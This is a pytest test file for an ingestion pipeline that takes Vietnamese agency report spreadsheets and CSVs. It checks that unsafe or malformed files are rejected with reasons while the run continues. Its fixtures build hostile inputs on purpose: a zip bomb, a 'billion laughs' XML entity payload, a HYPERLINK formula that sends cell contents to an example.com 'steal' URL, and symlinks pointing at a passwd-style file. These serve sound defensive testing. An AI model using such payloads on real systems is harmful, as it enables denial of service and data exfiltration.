"""Unreadable, unsafe and odd files: each is rejected whole with a reason and the
run goes on to the next file; CSV in every accepted encoding loads as NFC text."""

from __future__ import annotations

import os
import stat
import unicodedata
import zipfile
from pathlib import Path

import duckdb
import pytest
from fixtures.submissions.builders import (
    GOOD_INDICATOR,
    GOOD_TASK,
    NGHE_AN_KHCN,
    csv_text,
    ingest_files,
    store_rows,
    write_csv,
    write_xlsx,
)

from dagster_project.simulate.files import to_cp1258
from dagster_project.submissions.readers import (
    FileRejected,
    Limits,
    check_zip_safety,
    decode_csv_bytes,
    read_submission,
)

pytest_plugins = ("fixtures.submissions.ingesting",)


def ingest(tmp_path: Path, reference, *files: Path, limits: Limits = Limits()):
    store = tmp_path / "store" / "submissions.duckdb"
    lines: list[str] = []
    outcomes = ingest_files(store, reference, *files, progress=lines.append, limits=limits)
    return outcomes, store, lines


def file_quarantine(store: Path, sha: str) -> list[tuple]:
    return store_rows(
        store,
        """
        select row_number, reason_code, reason_vi, reason_en
        from raw.submission_quarantine where file_sha256 = ?
        """,
        [sha],
    )


def good_xlsx(path: Path) -> Path:
    return write_xlsx(path, tasks=[GOOD_TASK], indicators=[GOOD_INDICATOR])


def dropped(tmp_path: Path, name: str, data: bytes) -> Path:
    """A file of ``data`` dropped into the landing folder ``tmp_path/in``."""
    path = tmp_path / "in" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def truncated_xlsx(tmp_path: Path) -> Path:
    whole = good_xlsx(tmp_path / "whole.xlsx").read_bytes()
    return dropped(tmp_path, "truncated.xlsx", whole[: len(whole) // 2])


def renamed_pdf(tmp_path: Path) -> Path:
    pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n"
    return dropped(tmp_path, "bao-cao.xlsx", pdf)


def zip_bomb(tmp_path: Path) -> Path:
    """An xlsx-shaped zip whose worksheet inflates 1000:1 (8 MB of spaces in 8 kB)."""
    path = tmp_path / "in" / "bomb.xlsx"
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (8 * 1024 * 1024))
    return path


def entity_expansion_xlsx(tmp_path: Path) -> Path:
    """A real workbook whose workbook.xml declares nested entities (billion laughs)."""
    source = good_xlsx(tmp_path / "source.xlsx")
    path = tmp_path / "in" / "laughs.xlsx"
    path.parent.mkdir(parents=True, exist_ok=True)
    payload = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">&lol2;</workbook>'
    )
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as rewritten:
        for item in original.infolist():
            data = payload.encode() if item.filename == "xl/workbook.xml" else original.read(item)
            rewritten.writestr(item, data)
    return path


def empty_file(tmp_path: Path) -> Path:
    return dropped(tmp_path, "empty.xlsx", b"")


def undecodable_csv(tmp_path: Path) -> Path:
    """UTF-16 without a BOM: decodes as UTF-8 with NUL characters."""
    data = csv_text("task_progress", [GOOD_TASK]).encode("utf-16-le")
    return dropped(tmp_path, "utf16-no-bom.csv", data)


def formula_metadata_xlsx(tmp_path: Path) -> Path:
    metadata = {**NGHE_AN_KHCN, "agency_id": '=HYPERLINK("http://example.com","nghe-an:so-khcn")'}
    return write_xlsx(tmp_path / "in" / "formula-meta.xlsx", metadata, tasks=[GOOD_TASK])


def oversized_csv(tmp_path: Path) -> Path:
    text = csv_text("task_progress", [{**GOOD_TASK, "difficulties": "x" * 30_000}])
    return dropped(tmp_path, "big.csv", text.encode("utf-8"))


def missing_sheet_xlsx(tmp_path: Path) -> Path:
    return write_xlsx(
        tmp_path / "in" / "no-budget.xlsx", tasks=[GOOD_TASK], omit_sheets=("budget_execution",)
    )


def missing_column_xlsx(tmp_path: Path) -> Path:
    return write_xlsx(
        tmp_path / "in" / "no-status.xlsx",
        tasks=[GOOD_TASK],
        omit_columns={"task_progress": ("status",)},
    )


def missing_metadata_xlsx(tmp_path: Path) -> Path:
    metadata = {key: value for key, value in NGHE_AN_KHCN.items() if key != "period"}
    return write_xlsx(tmp_path / "in" / "no-period.xlsx", metadata, tasks=[GOOD_TASK])


def version_2_xlsx(tmp_path: Path) -> Path:
    return write_xlsx(
        tmp_path / "in" / "v2.xlsx", {**NGHE_AN_KHCN, "format_version": "2"}, tasks=[GOOD_TASK]
    )


def untouched_template_rows(tmp_path: Path) -> Path:
    row = {
        "plan_id": "nghe-an-348-2025",
        "task_key": "I.2",
        "task_name": "Thành lập Hội đồng tư vấn",
    }
    return write_xlsx(tmp_path / "in" / "blank.xlsx", tasks=[row])


def pdf_file(tmp_path: Path) -> Path:
    return dropped(tmp_path, "bao-cao.pdf", b"%PDF-1.4\n%%EOF\n")


BAD_FILES = [
    ("truncated_xlsx", truncated_xlsx, "corrupt_xlsx"),
    ("renamed_pdf", renamed_pdf, "not_xlsx"),
    ("zip_bomb_ratio", zip_bomb, "zip_bomb"),
    ("xml_entity_expansion", entity_expansion_xlsx, "unsafe_xml"),
    ("empty_file", empty_file, "empty_file"),
    ("csv_wrong_encoding", undecodable_csv, "unreadable_encoding"),
    ("formula_in_metadata", formula_metadata_xlsx, "formula_in_metadata"),
    ("oversized", oversized_csv, "file_too_large"),
    ("missing_sheet", missing_sheet_xlsx, "missing_sheet"),
    ("missing_column", missing_column_xlsx, "missing_columns"),
    ("missing_metadata", missing_metadata_xlsx, "missing_metadata"),
    ("format_version_2", version_2_xlsx, "unsupported_format_version"),
    ("nothing_filled_in", untouched_template_rows, "no_data"),
    ("pdf", pdf_file, "unsupported_file_type"),
]


@pytest.mark.parametrize(
    ("make", "reason_code"), [case[1:] for case in BAD_FILES], ids=[case[0] for case in BAD_FILES]
)
def test_unreadable_file_is_rejected_and_the_run_continues(tmp_path, reference, make, reason_code):
    bad = make(tmp_path)
    good = good_xlsx(tmp_path / "in" / "zz-good.xlsx")
    limits = Limits(max_bytes=20_000)
    (bad_outcome, good_outcome), store, lines = ingest(
        tmp_path, reference, bad, good, limits=limits
    )

    assert bad_outcome.status == "rejected"
    assert bad_outcome.reason_code == reason_code
    assert (bad_outcome.rows_in, bad_outcome.rows_loaded, bad_outcome.rows_quarantined) == (0, 0, 0)
    [(row_number, code, reason_vi, reason_en)] = file_quarantine(store, bad_outcome.file_sha256)
    assert (row_number, code) == (None, reason_code)
    assert reason_vi and reason_en
    assert bad_outcome.receipt_path.exists()
    assert reason_code in lines[0] and "rejected" in lines[0]

    assert good_outcome.status == "accepted"
    assert good_outcome.rows_loaded == 2


def test_formula_cell_in_a_data_row_quarantines_only_that_row(tmp_path, reference):
    hyperlink = '=HYPERLINK("http://example.com/steal?d="&A1,"Xem chi tiết")'
    rows = [GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "output_document": hyperlink}]
    path = write_xlsx(tmp_path / "in" / "formula.xlsx", tasks=rows)
    [outcome], store, _ = ingest(tmp_path, reference, path)
    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == (
        "partially_accepted",
        1,
        1,
    )
    entry = store_rows(
        store,
        "select row_number, column_name, raw_value, reason_code from raw.submission_quarantine",
    )
    assert entry == [(4, "output_document", hyperlink, "formula_cell")]
    html = outcome.receipt_path.read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://example.com" in html, "the formula is shown escaped"
    assert "<a " not in html


def test_zip_declared_size_over_limit_is_refused_before_inflating(tmp_path):
    path = tmp_path / "big.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", b"x" * 300_000)
    with pytest.raises(FileRejected) as rejected:
        check_zip_safety(path, Limits(max_uncompressed_bytes=200_000))
    assert rejected.value.issue.reason_code == "zip_bomb"
    assert "declared uncompressed size" in rejected.value.issue.detail


def test_docx_renamed_xlsx_is_named_as_word(tmp_path):
    path = tmp_path / "report.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    with pytest.raises(FileRejected) as rejected:
        read_submission(path)
    assert rejected.value.issue.reason_code == "not_xlsx"
    assert "Word document" in rejected.value.issue.detail


DIFFICULTY = "Thiếu nhân lực; chờ hướng dẫn của Bộ Khoa học và Công nghệ"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1258"])
def test_csv_loads_in_each_encoding_as_nfc(tmp_path, reference, encoding):
    row = {**GOOD_TASK, "difficulties": DIFFICULTY}
    path = write_csv(
        tmp_path / "in" / f"tasks-{encoding}.csv", "task_progress", [row], encoding=encoding
    )
    [outcome], store, _ = ingest(tmp_path, reference, path)
    assert outcome.status == "accepted"
    with duckdb.connect(str(store), read_only=True) as con:
        ((stored, status),) = con.execute(
            "select difficulties, status from raw.submission_rows"
        ).fetchall()
        (recorded,) = con.execute("select encoding from raw.submission_files").fetchone()
    assert recorded == encoding
    assert stored == DIFFICULTY
    assert unicodedata.is_normalized("NFC", stored)
    assert status == "Hoàn thành"


def test_cp1258_bytes_hold_combining_tone_marks_and_decode_to_nfc():
    data = to_cp1258("Thiếu nhân lực")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    assert not unicodedata.is_normalized("NFC", data.decode("cp1258"))
    text, encoding = decode_csv_bytes(data)
    assert (text, encoding) == ("Thiếu nhân lực", "cp1258")


def test_nfd_utf8_csv_is_normalized(tmp_path, reference):
    row = {**GOOD_TASK, "difficulties": unicodedata.normalize("NFD", DIFFICULTY)}
    path = write_csv(tmp_path / "in" / "nfd.csv", "task_progress", [row])
    [outcome], store, _ = ingest(tmp_path, reference, path)
    with duckdb.connect(str(store), read_only=True) as con:
        (stored,) = con.execute("select difficulties from raw.submission_rows").fetchone()
    assert stored == DIFFICULTY


def test_semicolon_csv_from_vietnamese_excel(tmp_path, reference):
    path = write_csv(
        tmp_path / "in" / "semicolon.csv", "indicator_values", [GOOD_INDICATOR], delimiter=";"
    )
    [outcome], store, _ = ingest(tmp_path, reference, path)
    assert outcome.status == "accepted"
    with duckdb.connect(str(store), read_only=True) as con:
        assert con.execute(
            "select value_text, csv_delimiter from raw.submission_rows, raw.submission_files"
        ).fetchone() == (
            "45,5",
            ";",
        )


def test_csv_unknown_sheet_kind_is_rejected(tmp_path, reference):
    text = csv_text("task_progress", [GOOD_TASK]).replace("task_progress", "tien_do", 1)
    text = text.replace(",task_progress,", ",tien_do,")
    path = tmp_path / "in" / "kind.csv"
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8")
    [outcome], _, _ = ingest(tmp_path, reference, path)
    assert outcome.reason_code == "unknown_sheet_kind"


def test_extra_columns_and_sheets_are_kept_and_reported(tmp_path, reference):
    from openpyxl import load_workbook

    path = good_xlsx(tmp_path / "in" / "extra.xlsx")
    workbook = load_workbook(path)
    tasks = workbook["task_progress"]
    tasks.cell(row=1, column=20, value="người báo cáo")
    tasks.cell(row=3, column=20, value="Nguyễn Văn A")
    workbook.create_sheet("Ghi chú").append(["ghi chú riêng"])
    workbook.save(path)
    [outcome], store, _ = ingest(tmp_path, reference, path)
    assert outcome.status == "accepted"
    with duckdb.connect(str(store), read_only=True) as con:
        extra = con.execute(
            "select extra_columns from raw.submission_rows where sheet = 'task_progress'"
        ).fetchone()[0]
        ignored = con.execute("select ignored_sheets from raw.submission_files").fetchone()[0]
    assert extra == '{"người báo cáo": "Nguyễn Văn A"}'
    assert ignored == ["Ghi chú"]
    assert "Ghi chú" in outcome.receipt_path.read_text(encoding="utf-8")


def test_every_file_balances_rows_in_against_the_tables(tmp_path, reference):
    files = [
        good_xlsx(tmp_path / "in" / "a.xlsx"),
        write_xlsx(
            tmp_path / "in" / "b.xlsx", tasks=[GOOD_TASK, {**GOOD_TASK, "task_key": "IX.9"}]
        ),
        renamed_pdf(tmp_path),
        write_csv(
            tmp_path / "in" / "c.csv",
            "task_progress",
            [GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "status": "?"}],
        ),
    ]
    outcomes, store, _ = ingest(tmp_path, reference, *files)
    summary = store_rows(
        store,
        "select file_name, rows_in, rows_loaded, rows_quarantined, is_balanced from raw.quarantine_summary",
    )
    assert len(summary) == len(files)
    assert all(row[4] for row in summary)
    for outcome in outcomes:
        assert outcome.rows_in == outcome.rows_loaded + outcome.rows_quarantined


def test_read_submission_never_evaluates_excel_number_formats_as_text(tmp_path):
    path = write_xlsx(
        tmp_path / "numbers.xlsx",
        {**NGHE_AN_KHCN, "format_version": 1},
        indicators=[{**GOOD_INDICATOR, "indicator_code": 9.1, "value_text": 2026}],
    )
    parsed = read_submission(path)
    assert parsed.metadata["format_version"] == "1"
    [row] = [r for r in parsed.rows if r.sheet == "indicator_values"]
    assert row.values["indicator_code"] == "9.1"
    assert row.values["value_text"] == "2.026"


def test_receipt_is_bilingual(tmp_path, reference):
    path = write_xlsx(
        tmp_path / "in" / "r.xlsx",
        tasks=[GOOD_TASK, {**GOOD_TASK, "task_key": "I.3", "status": "Xong"}],
    )
    [outcome], _, lines = ingest(tmp_path, reference, path)
    html = outcome.receipt_path.read_text(encoding="utf-8")
    assert outcome.receipt_path.name.startswith(outcome.file_sha256[:12] + "-")
    for text in (
        "Biên nhận báo cáo",
        "Submission receipt",
        "Chấp nhận một phần",
        "Partially accepted",
        "Tình trạng &#39;Xong&#39; không hợp lệ",
        "Status &#39;Xong&#39; is invalid",
    ):
        assert text in html
    assert str(outcome.receipt_path) in lines[0]


def test_a_symlink_in_the_landing_folder_is_refused_and_nothing_behind_it_is_copied(
    tmp_path, reference
):
    landing = tmp_path / "landing"
    good = good_xlsx(landing / "good.xlsx")
    secret = tmp_path / "outside" / "passwd.csv"
    secret.parent.mkdir()
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    (landing / "passwd.csv").symlink_to(secret)
    (landing / "report.xlsx").symlink_to(good)
    (landing / "dangling.csv").symlink_to(tmp_path / "nowhere.csv")
    os.mkfifo(landing / "pipe.csv")
    outcomes, store, _ = ingest(tmp_path, reference, landing)
    by_name = {o.path.name: o for o in outcomes}
    assert by_name["good.xlsx"].status == "accepted"
    for name in ("passwd.csv", "report.xlsx", "dangling.csv", "pipe.csv"):
        assert (by_name[name].status, by_name[name].reason_code) == ("rejected", "not_regular_file")
    copies = [p for p in (store.parent / "submission_files").rglob("*") if p.is_file()]
    assert not any(b"root:x:0" in p.read_bytes() for p in copies)
    with duckdb.connect(str(store), read_only=True) as con:
        details = con.execute(
            "select reason_en from raw.submission_quarantine where reason_code = 'not_regular_file'"
        ).fetchall()
        archived = con.execute(
            "select count(*) from raw.submission_files where archived_path is not null"
        ).fetchone()[0]
    assert archived == 1
    assert any(f"symbolic link to {secret}" in row[0] for row in details)
    # Refusals are kept once: the same folder again changes nothing.
    again, _, _ = ingest(tmp_path, reference, landing)
    assert {o.status for o in again} == {"already_ingested"}


def test_archived_copies_records_and_receipts_are_group_readable_not_world_readable(
    tmp_path, reference
):
    previous = os.umask(0o022)
    try:
        [outcome], store, _ = ingest(tmp_path, reference, good_xlsx(tmp_path / "in" / "a.xlsx"))
    finally:
        os.umask(previous)
    written = [outcome.receipt_path, *(store.parent / "submission_files").rglob("*")]
    files = [p for p in written if p.is_file()]
    assert len(files) == 3, files
    assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o640}
    folders = [outcome.receipt_path.parent, *(p for p in written if p.is_dir())]
    assert {stat.S_IMODE(p.stat().st_mode) for p in folders} == {0o750}


def test_rows_inserted_without_type_sampling_are_stored_as_with_it(tmp_path):
    """The writer inserts rows and quarantine entries without DuckDB sampling each object
    column (``analyze=False``): the stored values and types are those of a sampled insert,
    and the connection's sampling is back to its default afterwards."""
    from datetime import datetime

    from dagster_project.submissions.ingest import _insert_records
    from dagster_project.submissions.store import open_store
    from dagster_project.submissions.tables import QUARANTINE_COLUMNS

    at = datetime(2025, 10, 31, 23, 59, 58, 123456)
    records = [
        (
            "a" * 64,
            "đề xuất.xlsx",
            "tasks",
            7,
            "status",
            "Đang làm",
            "bad_status",
            "vi",
            "en",
            '{"status": "Đang làm"}',
            at,
        ),
        (
            "b" * 64,
            "x.csv",
            None,
            None,
            None,
            None,
            "no_data",
            "vi",
            "en",
            None,
            datetime(2025, 11, 1),
        ),
        (
            "c" * 64,
            "y.csv",
            "budget",
            12,
            "allocated_million_vnd",
            "1.234,5",
            "bad_number",
            "vi",
            "en",
            "{}",
            at,
        ),
    ]
    casts = {"row_number": "integer", "quarantined_at": "timestamp"}
    stored = {}
    for analyze in (True, False):
        with open_store(tmp_path / f"store-{analyze}.duckdb") as con:
            con.execute("begin transaction")
            _insert_records(
                con,
                "raw.submission_quarantine",
                QUARANTINE_COLUMNS,
                records,
                casts,
                analyze=analyze,
            )
            con.execute("commit")
            stored[analyze] = con.execute(
                f"select {', '.join(QUARANTINE_COLUMNS)} from raw.submission_quarantine "
                "order by file_sha256"
            ).fetchall()
            assert con.execute("select current_setting('pandas_analyze_sample')").fetchone()[0] == (
                1000
            )
    assert stored[False] == stored[True] == sorted(records)
